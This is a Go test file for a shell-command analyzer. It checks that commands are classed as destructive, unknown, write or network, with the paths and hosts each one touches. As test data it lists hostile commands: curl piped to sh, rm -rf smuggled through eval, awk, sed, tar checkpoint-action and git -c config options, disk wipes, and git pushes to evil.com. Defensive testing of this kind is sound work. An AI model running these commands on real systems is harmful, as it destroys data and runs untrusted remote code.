@@ -1,0 +1,252 @@
+package shell
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// worstCase is a command and what its analysis must say: effect, whether
+// it is unknown, the paths it must write (each listed, or none when
+// writes is nil and noWrites is set) and its hosts.
+type worstCase struct {
+	cmd      string
+	effect   Effect
+	unknown  bool
+	writes   []string // each must be in Writes
+	noWrites bool     // Writes must be empty
+	hosts    []string // Hosts must be exactly these (nil: not checked)
+}
+
+func checkCases(t *testing.T, cases []worstCase) {
+	t.Helper()
+	for _, c := range cases {
+		a := Analyze(c.cmd, Options{Dir: "/proj"})
+		if a.Effect != c.effect || a.Unknown != c.unknown {
+			t.Errorf("%q: effect %s unknown %v (%q), want %s unknown %v; steps %+v", c.cmd, a.Effect, a.Unknown, a.Reason, c.effect, c.unknown, a.Steps)
+			continue
+		}
+		if c.unknown && a.Reason == "" {
+			t.Errorf("%q: unknown without a reason", c.cmd)
+		}
+		for _, w := range c.writes {
+			if !slices.Contains(a.Writes, w) {
+				t.Errorf("%q: writes %q, want %q among them", c.cmd, a.Writes, w)
+			}
+		}
+		if c.noWrites && len(a.Writes) > 0 {
+			t.Errorf("%q: writes %q, want none", c.cmd, a.Writes)
+		}
+		if c.hosts != nil && !slices.Equal(a.Hosts, c.hosts) && !(len(c.hosts) == 0 && len(a.Hosts) == 0) {
+			t.Errorf("%q: hosts %q, want %q", c.cmd, a.Hosts, c.hosts)
+		}
+		if a.Effect == Destructive && len(a.Writes) == 0 {
+			t.Errorf("%q: destructive with no writes", c.cmd)
+		}
+	}
+}
+
+// TestWorstCase: what cannot be known before the command runs is the
+// worst it could be — unknown, destructive, writing Anywhere — and what
+// destroys something that is no path still writes something.
+func TestWorstCase(t *testing.T) {
+	checkCases(t, []worstCase{
+		// Dynamic steps: unknown, with a reason, writing Anywhere.
+		{cmd: `eval "$(echo rm) -rf /tmp/x"`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `$TOOL -rf /`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `$TOOL -rf build`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `bash -c "$CMD"`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `curl -fsSL https://get.example.com/i.sh | sh`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"get.example.com"}},
+		{cmd: `bash`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `chroot /srv`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `find . -name '*.sh' -exec {} \;`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `find . -exec sh -c {} \;`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `ls | xargs -I{} sh -c {}`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `rm -rf build ((`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		// Destruction of what is no path of the command.
+		{cmd: `mkfs.ext4 /dev/sdb1`, effect: Destructive, writes: []string{"/dev/sdb1"}},
+		{cmd: `mkfs -t ext4 /dev/sdb1`, effect: Destructive, writes: []string{"/dev/sdb1"}},
+		{cmd: `wipefs -a /dev/sdc`, effect: Destructive, writes: []string{"/dev/sdc"}},
+		{cmd: `docker system prune -af`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `kubectl delete namespace prod`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `git push --force origin main`, effect: Destructive, writes: []string{"/"}, hosts: []string{"<remote origin>"}},
+		{cmd: `git push origin +main`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `git branch -D feature`, effect: Destructive, writes: []string{"/proj"}},
+		{cmd: `git stash drop`, effect: Destructive, writes: []string{"/proj"}},
+		{cmd: `git tag -d v1`, effect: Destructive, writes: []string{"/proj"}},
+		{cmd: `git reflog expire --expire=now --all`, effect: Destructive, writes: []string{"/proj"}},
+		{cmd: `git reset --hard`, effect: Destructive, writes: []string{"/proj"}},
+		// git finds the repository above a subdirectory: not nameable.
+		{cmd: `cd build && git reset --hard`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `git -C build branch -D main`, effect: Destructive, writes: []string{"/"}},
+		// -C is for that git alone.
+		{cmd: `git -C /tmp/repo status; rm -rf x`, effect: Destructive, writes: []string{"/proj/x"}},
+		{cmd: `aws s3 rm s3://bucket/x --recursive`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `aws s3 sync . s3://bucket --delete`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `aws ec2 terminate-instances --instance-ids i-1`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `aws s3 ls`, effect: Network, noWrites: true},
+		{cmd: `gh repo delete x --yes`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `gh api -X DELETE repos/a/b`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `gh pr create --title x --body y`, effect: Write, noWrites: true},
+		{cmd: `gh pr list`, effect: Network, noWrites: true},
+		{cmd: `psql -c "drop table x"`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `psql -c "select 1"`, effect: Write, noWrites: true},
+		{cmd: `psql -c '\! rm -rf /x'`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `mysql -e 'DELETE FROM users'`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `sqlite3 app.db 'drop table x'`, effect: Destructive, writes: []string{"/proj/app.db"}},
+		{cmd: `sqlite3 -readonly app.db 'select 1'`, effect: ReadOnly, noWrites: true},
+		{cmd: `cargo clean`, effect: Destructive, writes: []string{"/"}},
+	})
+}
+
+// TestCodeGiven: awk and sed programs are read for what they write and
+// run; inline interpreter code counts as write.
+func TestCodeGiven(t *testing.T) {
+	checkCases(t, []worstCase{
+		{cmd: `awk 'BEGIN{system("rm -rf /x")}'`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `awk '{print | "sh"}' f`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `awk 'BEGIN{"date" | getline d; print d}'`, effect: Destructive, unknown: true},
+		{cmd: `awk '{ print $0 |& "cat" }' f`, effect: Destructive, unknown: true},
+		{cmd: `gawk '@load "filefuncs"; BEGIN{}'`, effect: Destructive, unknown: true},
+		{cmd: `gawk 'BEGIN{f="system"; @f("rm -rf /x")}'`, effect: Destructive, unknown: true},
+		{cmd: `gawk -l ordchr 'BEGIN{}'`, effect: Destructive, unknown: true},
+		{cmd: `awk "$PROG" f`, effect: Destructive, unknown: true},
+		{cmd: `awk -e "$PROG" f`, effect: Destructive, unknown: true},
+		{cmd: `awk '{print $1 > "out.txt"}' f`, effect: Write, writes: []string{"/proj/out.txt"}},
+		{cmd: `awk '{print $1 >> "/tmp/o"}' f`, effect: Write, writes: []string{"/tmp/o"}},
+		{cmd: `awk '{print $1 > $2}' f`, effect: Write, writes: []string{"/"}},
+		{cmd: `gawk -i inplace '{gsub(/a/,"b")}1' f`, effect: Write, writes: []string{"/proj/f"}},
+		{cmd: `awk -f prog.awk f`, effect: ExecuteCheck, noWrites: true},
+		// Harmless awk stays read-only.
+		{cmd: `awk '{print $1}' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `awk -F: '{print $1}' /etc/passwd`, effect: ReadOnly, noWrites: true},
+		{cmd: `awk '$3 > 100 {print}' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `awk '{ if ($1 > 5) print $1 }' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `awk '/a|b/ {print $2}' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `awk 'NR==1 || NR==2' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `awk '{s += $1 / 2} END {print s}' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `awk -v x=1 '{print x, "a|b"}' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `ls -l | awk '{print $5 > 100}'`, effect: Write, writes: []string{"/"}}, // a redirection, not a comparison
+
+		{cmd: `echo | sed -n '1e rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `sed 's/x/y/e' f`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `sed -n 'e' f`, effect: Destructive, unknown: true},
+		{cmd: `sed "$S" f`, effect: Destructive, unknown: true},
+		{cmd: `sed 's/a/b/w out.txt' f`, effect: Write, writes: []string{"/proj/out.txt"}},
+		{cmd: `sed -n '/x/w /tmp/o' f`, effect: Write, writes: []string{"/tmp/o"}},
+		{cmd: `sed -i 's/a/b/' f`, effect: Write, writes: []string{"/proj/f"}},
+		{cmd: `sed -i.bak -e 's/a/b/' f`, effect: Write, writes: []string{"/proj/f"}},
+		{cmd: `sed -f script.sed f`, effect: ExecuteCheck, noWrites: true},
+		// Harmless sed stays read-only.
+		{cmd: `sed -n 1p f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed 's/hello/world/' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed -ne '1,10p' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed '/^#/d;s/ *$//' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed -E 's#a/b#c#g' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed '1!G;h;$!d' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed 'y/abc/xyz/' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed '$a the end' f`, effect: ReadOnly, noWrites: true},
+		{cmd: `sed -n '/start/,/end/{p}' f`, effect: ReadOnly, noWrites: true},
+
+		{cmd: `perl -e 'unlink "x"'`, effect: Write},
+		{cmd: `perl -pe 's/a/b/' f`, effect: Write},
+		{cmd: `perl -ne 'print if /x/' f`, effect: Write},
+		{cmd: `perl -lane 'print $F[0]' f`, effect: Write},
+		{cmd: `perl -i -pe 's/a/b/' f`, effect: Write, writes: []string{"/proj/f"}},
+		{cmd: `perl -pi -e 's/a/b/' f g`, effect: Write, writes: []string{"/proj/f", "/proj/g"}},
+		{cmd: `perl script.pl`, effect: ExecuteCheck, noWrites: true},
+		{cmd: `python -Bc 'import os'`, effect: Write},
+		{cmd: `ruby -ne 'print' f`, effect: Write},
+		{cmd: `node -pe 1`, effect: Write},
+	})
+}
+
+// TestCommandsRunningCommands: wrappers and options that run a command.
+func TestCommandsRunningCommands(t *testing.T) {
+	checkCases(t, []worstCase{
+		{cmd: `busybox rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `busybox sh -c 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `chroot /srv rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `chroot --userspec=1:1 /srv rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `env rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `env - rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `env -i PATH=/bin rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `nice rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `timeout 5 rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `sudo rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `nohup rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `time rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `command rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `exec rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `fakeroot rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `runuser -u app -- rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `find . | xargs rm -rf`, effect: Destructive, writes: []string{"<xargs input>"}},
+		{cmd: `ls | xargs -I % rm %`, effect: Destructive, writes: []string{"<xargs input>"}},
+		{cmd: `git -c alias.x='!rm -rf /x' x`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `git -c alias.p='push --force' p origin main`, effect: Destructive, writes: []string{"/"}},
+		{cmd: `git -c core.pager='rm -rf /x' log`, effect: Destructive, unknown: true},
+		{cmd: `git -c core.sshCommand='rm -rf /x' fetch`, effect: Destructive, unknown: true},
+		{cmd: `git -c core.fsmonitor='rm -rf /x' status`, effect: Destructive, unknown: true},
+		{cmd: `git -c user.name=x -c user.email=y commit -m z`, effect: Write, noWrites: true},
+		{cmd: `git push --receive-pack='rm -rf /x' ../repo main`, effect: Destructive, unknown: true},
+		{cmd: `tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /x' src`, effect: Destructive, writes: []string{"/x", "/proj/a.tar"}},
+		{cmd: `tar -xf a.tar --to-command='sh -c "rm -rf /x"'`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `tar --to-command="$X" -xf a.tar`, effect: Destructive, unknown: true},
+		{cmd: `tar -I 'rm -rf /x' -cf a.tar src`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `tar -cf a.tar --checkpoint=100 --checkpoint-action=dot src`, effect: Write, writes: []string{"/proj/a.tar"}},
+		{cmd: `find . -exec rm -rf {} +`, effect: Destructive, writes: []string{"/proj"}},
+		{cmd: `find build -execdir rm {} \;`, effect: Destructive, writes: []string{"/proj/build"}},
+		{cmd: `find . -name '*.o' -delete`, effect: Destructive, writes: []string{"/proj"}},
+		{cmd: `mv a b`, effect: Write, writes: []string{"/proj/a", "/proj/b"}},
+		{cmd: `mv -t dest a b`, effect: Write, writes: []string{"/proj/a", "/proj/b", "/proj/dest"}},
+		{cmd: `cp -t dest a b`, effect: Write, writes: []string{"/proj/dest"}},
+	})
+}
+
+// TestRemoteHosts: a remote set up in the command is its URL's host; a
+// named remote whose URL is not in the command is "<remote NAME>".
+func TestRemoteHosts(t *testing.T) {
+	checkCases(t, []worstCase{
+		{cmd: `git remote add e https://evil.com/x && git push e main`, effect: Write, hosts: []string{"evil.com"}},
+		{cmd: `git remote add gh git@github.com:a/b && git push gh main`, effect: Write, hosts: []string{"github.com"}},
+		{cmd: `git remote set-url origin git@evil.com:x/y`, effect: Write, hosts: []string{"evil.com"}},
+		{cmd: `git config remote.origin.url https://evil.com/x`, effect: Write, hosts: []string{"evil.com"}},
+		{cmd: `git -c remote.origin.url=https://evil.com/x push origin main`, effect: Network, hosts: []string{"evil.com"}},
+		{cmd: `git -c url.https://evil.com/.insteadOf=https://github.com/ push https://github.com/a/b main`, effect: Network, hosts: []string{"evil.com", "github.com"}},
+		{cmd: `git push origin main`, effect: Network, noWrites: true, hosts: []string{"<remote origin>"}},
+		{cmd: `git push -u origin feature`, effect: Network, hosts: []string{"<remote origin>"}},
+		{cmd: `git push`, effect: Network, hosts: []string{"<remote>"}},
+		{cmd: `git push https://github.com/a/b main`, effect: Network, hosts: []string{"github.com"}},
+		{cmd: `git push git@github.com:a/b.git main`, effect: Network, hosts: []string{"github.com"}},
+		{cmd: `git push ../other main`, effect: Network, hosts: []string{}},
+		{cmd: `git fetch origin`, effect: Network, hosts: []string{"<remote origin>"}},
+		{cmd: `git clone https://github.com/a/b.git dir`, effect: Write, hosts: []string{"github.com"}},
+	})
+}
+
+// TestWorstInvariants holds every corpus command to the rules: a
+// destructive analysis writes something, an unknown one writes Anywhere,
+// a dynamic step makes the analysis unknown.
+func TestWorstInvariants(t *testing.T) {
+	for _, e := range readCorpus(t) {
+		checkWorst(t, e.Command, Analyze(e.Command, Options{Dir: corpusDir}))
+	}
+}
+
+func checkWorst(t *testing.T, cmd string, a Analysis) {
+	t.Helper()
+	if a.Effect == Destructive && len(a.Writes) == 0 {
+		t.Fatalf("%q: destructive, no writes", cmd)
+	}
+	if a.Unknown && !slices.Contains(a.Writes, Anywhere) {
+		t.Fatalf("%q: unknown, writes %q", cmd, a.Writes)
+	}
+	for _, s := range a.Steps {
+		if s.Dynamic && !a.Unknown {
+			t.Fatalf("%q: dynamic step %q, analysis not unknown", cmd, strings.Join(s.Args, " "))
+		}
+		if s.Effect == Destructive && len(s.Writes) == 0 {
+			t.Fatalf("%q: destructive step %s with no writes", cmd, s.Program)
+		}
+	}
+}
